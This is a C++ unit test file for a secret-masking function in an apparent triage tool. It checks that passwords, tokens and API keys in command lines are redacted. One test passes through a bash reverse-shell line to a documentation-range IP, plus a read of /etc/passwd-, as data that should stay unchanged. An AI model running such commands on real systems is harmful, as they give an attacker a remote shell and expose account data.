// SPDX-License-Identifier: Apache-2.0
#include "triage/host/mask_secrets.h"

#include <gtest/gtest.h>

namespace firsthour::triage {
namespace {

TEST(MaskSecrets, HidesValuesAfterNamesOfSecrets) {
  EXPECT_EQ(mask_secrets("app --db.password=hunter2 -v"), "app --db.password=*** -v");
  EXPECT_EQ(mask_secrets("app --token hunter2 -v"), "app --token *** -v");
  EXPECT_EQ(mask_secrets("PASSWORD='hunter2' x"), "PASSWORD='***' x");
  EXPECT_EQ(mask_secrets("Authorization: Bearer hunter2"), "Authorization: Bearer ***");
  EXPECT_EQ(mask_secrets("a?api_key=hunter2&b=1"), "a?api_key=***&b=1");
}

TEST(MaskSecrets, HidesThePasswordOfAUrl) {
  EXPECT_EQ(mask_secrets("curl https://bob:hunter2@example.org/x"), "curl https://bob:***@example.org/x");
  EXPECT_EQ(mask_secrets("curl https://example.org:8443/@x"), "curl https://example.org:8443/@x");
}

TEST(MaskSecrets, LeavesTheRest) {
  EXPECT_EQ(mask_secrets("cat /etc/passwd-"), "cat /etc/passwd-");
  EXPECT_EQ(mask_secrets("bash -i >& /dev/tcp/203.0.113.9/4444"), "bash -i >& /dev/tcp/203.0.113.9/4444");
  EXPECT_EQ(mask_secrets(""), "");
  EXPECT_EQ(mask_secrets("password="), "password=");
}

}  // namespace
}  // namespace firsthour::triage
